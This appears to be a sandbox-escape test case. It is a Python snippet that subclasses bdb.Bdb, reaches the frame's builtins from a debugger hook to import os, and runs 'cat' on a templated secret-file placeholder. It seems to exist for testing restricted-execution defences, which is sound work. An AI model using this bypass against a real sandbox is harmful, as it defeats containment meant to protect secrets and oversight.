# bdb, the debugger's base class, gets frames.
# effect: run
import bdb
class Debugger(bdb.Bdb):
    def user_line(self, frame):
        self.set_quit()
        frame.f_builtins["__import__"]("os").system("cat @SECRET@")
Debugger().run("a = 1\nb = 2\n")
